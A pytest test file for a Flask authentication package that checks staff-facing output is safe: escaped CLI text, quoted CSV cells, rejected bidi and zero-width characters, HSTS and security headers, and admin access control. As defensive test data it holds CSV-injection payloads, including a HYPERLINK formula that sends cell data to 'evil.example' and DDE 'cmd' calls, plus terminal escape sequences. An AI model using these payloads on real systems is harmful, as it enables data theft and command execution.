"""Output is safe wherever staff read it (issue 15 point 6): control characters escaped in the
CLI, no formula in the CSV, no bidi or zero-width control in any applicant text field, HSTS over
HTTPS, the security headers on every answer under the prefix, and applicants never on the
admin pages."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from flask_login import current_user

from flask_industry_auth import audit
from flask_industry_auth.admin import AccountAdmin
from flask_industry_auth.cli import csv_safe, terminal_safe
from flask_industry_auth.validators import INVISIBLE_CONTROLS, has_bad_characters
from tests.helpers import OWN_PASSWORD, VALID, Portal, text_of
from tests.hostapp import auth, db

HOSTILE = "\x1b[2J\x1b]0;owned\x07 name\u202egnp.exe\x7f\x9b"


def _run(app, *args):
    return app.test_cli_runner().invoke(args=["industry-auth", *args])


def _audit_row(app, account_id, *, detail=None, actor=None, event="login"):
    with app.app_context():
        account = db.session.scalar(db.select(auth.account_model).filter_by(account_id=account_id))
        audit.record(
            account, event=event, outcome="ok", detail=detail, actor=actor, account_id=account_id
        )
        db.session.commit()


def _no_raw_controls(text):
    bad = [ch for ch in text if ch in INVISIBLE_CONTROLS or ch in "\x1b\x07\x7f\x9b"]
    assert bad == [], text


# -- (a) the terminal -----------------------------------------------------------------------


def test_terminal_safe_escapes_controls_bidi_and_zero_width():
    assert terminal_safe("\x1b[2J") == "\\x1b[2J"
    assert terminal_safe("a\u202eb") == "a\\u202eb"
    assert terminal_safe("\x7f\x9b\x00\r\n\t") == "\\x7f\\x9b\\x00\\x0d\\x0a\\x09"
    assert terminal_safe("\u200b\u2066\ufeff\u2028") == "\\u200b\\u2066\\ufeff\\u2028"
    assert terminal_safe("經濟部測試股份有限公司 #1") == "經濟部測試股份有限公司 #1"
    assert terminal_safe(None) == "" and terminal_safe(3) == "3"


def test_show_and_audit_print_stored_escapes_escaped(app, account):
    account_id = account["account_id"]
    _audit_row(app, account_id, detail="\x1b[2J wiped \u202eevil", actor="cert:\x1b]0;x\x07")
    shown = _run(app, "show", VALID["business_id"], account_id)
    assert shown.exit_code == 0, shown.output
    _no_raw_controls(shown.output)
    assert "\\x1b[2J wiped \\u202eevil" in shown.output
    assert "cert:\\x1b]0;x\\x07" in shown.output

    exported = _run(app, "audit", account_id)
    assert exported.exit_code == 0, exported.output
    _no_raw_controls(exported.output)
    assert "\\x1b[2J wiped \\u202eevil" in exported.output

    lines = _run(app, "audit", account_id, "--format", "jsonl")
    assert lines.exit_code == 0, lines.output
    _no_raw_controls(lines.output)
    details = [json.loads(line)["detail"] for line in lines.output.splitlines()]
    assert "\x1b[2J wiped \u202eevil" in details  # the same data, only written escaped


def test_list_search_and_delegations_escape_stored_names(app, account):
    with app.app_context():
        found = db.session.scalar(
            db.select(auth.account_model).filter_by(account_id=account["account_id"])
        )
        found.business_name = HOSTILE  # as a crafted certificate name could store it
        db.session.commit()
    for args in (("list",), ("search", account["account_id"])):
        result = _run(app, *args)
        assert result.exit_code == 0, result.output
        _no_raw_controls(result.output)
        assert "\\x1b[2J\\x1b]0;owned\\x07 name\\u202egnp.exe\\x7f\\x9b" in result.output
    result = _run(app, "delegations")
    assert result.exit_code == 0
    _no_raw_controls(result.output)


# -- (b) the CSV export -----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr"])
def test_csv_safe_quotes_every_formula_start(value):
    safe = csv_safe(value)
    assert safe.startswith("'")
    assert safe == "'" + terminal_safe(value)


def test_csv_safe_leaves_plain_cells_and_numbers():
    assert csv_safe("ABC123") == "ABC123"
    assert csv_safe("2026-12-02T01:00:00") == "2026-12-02T01:00:00"
    assert csv_safe(None) is None and csv_safe(5) == 5


def test_audit_csv_neutralises_formulas_typed_as_account_ids(app, account):
    for value in FORMULAS:
        _audit_row(app, value[:32], detail=value, event="login_failed")
    result = _run(app, "audit", "--since", "2000-01-01")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    cells = [row[key] for row in rows for key in ("account_id", "detail") if row[key]]
    for value in FORMULAS:
        assert "'" + terminal_safe(value[:32]) in cells, value
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_formula_typed_at_login_reaches_the_csv_quoted(app, portal, account):
    typed = '=HYPERLINK("http://x.example")'
    portal.post(
        "/account/login",
        {"business_id": VALID["business_id"], "account_id": typed, "password": "whatever!"},
    )
    result = _run(app, "audit", "--since", "2000-01-01")
    for row in csv.DictReader(io.StringIO(result.output)):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


# -- (c) bidi and zero-width controls in applicant fields --------------------------------------

INVISIBLE = ["\u202a", "\u202e", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"]
INVISIBLE += ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
REFUSAL = "隱形字元"


@pytest.mark.parametrize("char", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_the_validator_refuses_every_bidi_and_zero_width_control(char):
    assert char in INVISIBLE_CONTROLS
    assert has_bad_characters(f"經濟部{char}公司")


def test_ordinary_text_is_still_accepted():
    for text in ("臺北市中正區福州街15號", "O'Brien & Sons, Ltd.", "王大明", "Ünïcødé"):
        assert not has_bad_characters(text)


@pytest.mark.parametrize("field", list(VALID))
def test_registration_refuses_them_in_every_field(portal, field):
    value = VALID[field][:2] + "\u202e" + VALID[field][2:]
    response = portal.post("/account/register", {**VALID, field: value, "action": "next"})
    page = text_of(response)
    assert response.status_code == 200
    assert f'id="{field}-error"' in page and REFUSAL in page
    assert portal.accounts() == []


@pytest.mark.parametrize("field", [f for f in VALID if f != "business_id"])
def test_the_profile_refuses_them_in_every_field(portal, signed_in, field):
    form = {
        **{k: v for k, v in VALID.items() if k != "business_id"},
        field: VALID[field] + "\u200b",
        "current_password": OWN_PASSWORD,
    }
    before = getattr(portal.account(signed_in["account_id"]), field)
    response = portal.post("/account/profile", form)
    page = text_of(response)
    assert response.status_code == 200
    assert f'id="{field}-error"' in page and REFUSAL in page
    assert getattr(portal.account(signed_in["account_id"]), field) == before


@pytest.mark.parametrize("field", ["business_id", "account_id"])
def test_login_and_recovery_fields_refuse_them(portal, account, field):
    data = {
        "business_id": VALID["business_id"],
        "account_id": account["account_id"],
        "password": OWN_PASSWORD,
    }
    data[field] = data[field] + "\u2066"
    response = portal.post("/account/login", data)
    assert response.status_code == 200 and REFUSAL in text_of(response)
    assert portal.account(account["account_id"]).failed_logins == 0
    forgot = portal.post("/account/forgot-password", {"account_id": "A\u202eB"})
    assert forgot.status_code == 200 and 'id="account_id-error"' in text_of(forgot)


# -- (d) HSTS -------------------------------------------------------------------------------


def test_hsts_over_https_only(client):
    secure = client.get("/account/login", base_url="https://portal.example")
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    plain = client.get("/account/login")
    assert "Strict-Transport-Security" not in plain.headers


@pytest.mark.parametrize("setting", [0, None, "0", ""])
def test_hsts_can_be_switched_off(make, setting):
    app = make(INDUSTRY_AUTH_HSTS_SECONDS=setting)
    response = app.test_client().get("/account/login", base_url="https://portal.example")
    assert "Strict-Transport-Security" not in response.headers


def test_hsts_max_age_is_configurable(make):
    app = make(INDUSTRY_AUTH_HSTS_SECONDS="600")
    response = app.test_client().get("/account/login", base_url="https://portal.example")
    assert response.headers["Strict-Transport-Security"] == "max-age=600; includeSubDomains"


# -- (e) the security headers on errors -----------------------------------------------------


def _has_security_headers(response, https=False):
    headers = response.headers
    assert "Content-Security-Policy" in headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Cache-Control"] == "no-store"
    assert "Referrer-Policy" in headers
    if https:
        assert headers["Strict-Transport-Security"].startswith("max-age=")


def test_404_and_405_under_the_prefix_carry_the_security_headers(client):
    missing = client.get("/account/no-such-page", base_url="https://portal.example")
    assert missing.status_code == 404
    _has_security_headers(missing, https=True)
    wrong_method = client.get("/account/logout")  # POST only
    assert wrong_method.status_code == 405
    _has_security_headers(wrong_method)
    static = client.get("/account/static/no-such-file.css")
    assert static.status_code == 404
    assert static.headers["X-Content-Type-Options"] == "nosniff"  # cacheable, as static is
    assert static.headers["X-Frame-Options"] == "DENY"


def test_errors_of_the_views_carry_them_too(client):
    refused = client.post("/account/login", data={})  # no CSRF token: 400
    assert refused.status_code == 400
    _has_security_headers(refused)


def test_the_hosts_own_pages_and_urls_are_left_alone(app):
    @app.get("/host-open")
    def host_open():
        return "host"

    client = app.test_client()
    for url in ("/host-open", "/no-such-host-page", "/accounting/x"):
        response = client.get(url, base_url="https://portal.example")
        assert "X-Frame-Options" not in response.headers, url
        assert "Strict-Transport-Security" not in response.headers, url


def test_404_under_the_admin_prefix_carries_them(app):
    AccountAdmin(app, can_access=lambda: True)
    response = app.test_client().get("/account-admin/nothing/here")
    assert response.status_code == 404
    _has_security_headers(response)


# -- (f) applicants never reach the admin pages ----------------------------------------------


def _readme_admin_example() -> str:
    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
    blocks = re.findall(r"```python\n(.*?)```", readme, flags=re.DOTALL)
    (example,) = [b for b in blocks if "AccountAdmin(" in b and "can_access" in b]
    return example


def test_the_readme_example_refuses_a_logged_in_applicant(make, smtp):
    app = make(INDUSTRY_AUTH_SHARE_LOGIN=True)  # the applicant is current_user
    exec(_readme_admin_example(), {"app": app, "current_user": current_user})  # noqa: S102
    portal = Portal(app, app.test_client(), smtp)
    details = portal.active_account()
    client = portal.client
    assert client.get("/account/").status_code == 200  # logged in
    for url in (
        "/account-admin/",
        f"/account-admin/accounts/{details['account_id']}",
        "/account-admin/delegations",
        "/account-admin/lifecycle",
        "/account-admin/no-such-page",
    ):
        assert client.get(url).status_code in (403, 404), url
        assert client.get(url).status_code != 500, url
    assert client.get("/account-admin/").status_code == 403
    lock = client.post(f"/account-admin/accounts/{details['account_id']}/events/lock")
    assert lock.status_code == 403
    assert portal.account(details["account_id"]).state == "activated"
    # Anonymous: the README's check says no, without an error either.
    assert app.test_client().get("/account-admin/").status_code == 403


def test_an_applicant_is_refused_unless_can_access_says_true_itself(make, smtp):
    answers = {"value": 1}
    app = make(INDUSTRY_AUTH_SHARE_LOGIN=True)
    AccountAdmin(app, can_access=lambda: answers["value"])
    portal = Portal(app, app.test_client(), smtp)
    portal.active_account()
    for truthy in (1, "yes", current_user, [True]):
        answers["value"] = truthy
        assert portal.client.get("/account-admin/").status_code == 403, truthy
    # A check that does not look at current_user (a staff network) and says True outright
    # is the host's decision.
    answers["value"] = True
    assert portal.client.get("/account-admin/").status_code == 200
    # Without an applicant, any true answer still lets staff in, as before.
    answers["value"] = 1
    assert app.test_client().get("/account-admin/").status_code == 200
